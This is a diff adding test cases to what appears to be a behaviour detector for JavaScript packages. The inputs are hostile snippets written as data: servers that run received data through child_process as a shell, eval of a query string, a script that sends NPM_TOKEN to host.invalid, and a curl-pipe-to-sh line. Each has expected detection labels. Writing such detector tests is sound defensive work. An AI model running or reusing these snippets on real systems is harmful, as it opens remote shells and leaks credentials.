@@ -34,6 +34,11 @@ function table(title: string, cases: readonly Case[]): void {
 }
 
 const URL = 'https://host.invalid';
+/** The headers of a Windows program, and nothing in it. */
+const PROGRAM = new Uint8Array(128);
+PROGRAM.set([0x4d, 0x5a]);
+PROGRAM[60] = 64;
+PROGRAM.set([0x50, 0x45], 64);
 const CP = "require('child_process')";
 
 table('JavaScript rows: information', [
@@ -593,3 +598,48 @@ describe('JavaScript: hostile input', () => {
     }).timeout(60_000);
   }
 });
+
+const SCRIPT = "require('https').get('https://host.invalid/' + process.env.NPM_TOKEN)";
+table('JavaScript: what comes in, what was written', [
+  [
+    'a request body that is run',
+    `require('http').createServer((q, r) => { let b = []; q.on('data', (c) => b.push(c)).on('end', () => ${CP}.exec(Buffer.concat(b).toString())) }).listen(1)`,
+    'run-shell carries:download | listen',
+  ],
+  [
+    'a connection that gets a shell',
+    `require('net').createServer((s) => s.on('data', (d) => ${CP}.exec(d.toString(), (e, o) => s.write(o)))).listen(1)`,
+    'run-shell carries:download | open-socket carries:output',
+  ],
+  [
+    'a query that is evaluated',
+    "const a = require('express')(); a.get('/', (q, r) => r.send(eval(q.query.x))); a.listen(1)",
+    'evaluate-downloaded | listen',
+  ],
+  [
+    'a server that answers',
+    "require('http').createServer((q, r) => r.end('hello')).listen(1)",
+    'listen | !evaluate-downloaded | !run-shell',
+  ],
+  [
+    'a script written and run',
+    `require('fs').writeFileSync('/tmp/x.js', ${JSON.stringify(SCRIPT)}); ${CP}.exec('node /tmp/x.js')`,
+    'write-file path:temp | run-own-file | http-send carries:credentials hidden',
+  ],
+  [
+    'a shell script written and run',
+    `require('fs').writeFileSync('/tmp/x', 'curl https://host.invalid/x | sh'); ${CP}.execSync('sh /tmp/x')`,
+    'write-file | pipe-to-shell hidden',
+  ],
+  [
+    'a script written and not run',
+    `require('fs').writeFileSync('/tmp/x.js', ${JSON.stringify(SCRIPT)}); ${CP}.exec('node /tmp/y.js')`,
+    'write-file | !http-send',
+  ],
+  [
+    'a program of the package, named without a folder',
+    { 'index.js': `${CP}.exec('x.exe')`, 'x.exe': PROGRAM },
+    'run-program | run-own-file',
+  ],
+  ['a program of the system', `${CP}.exec('x.exe')`, 'run-program | !run-own-file'],
+]);
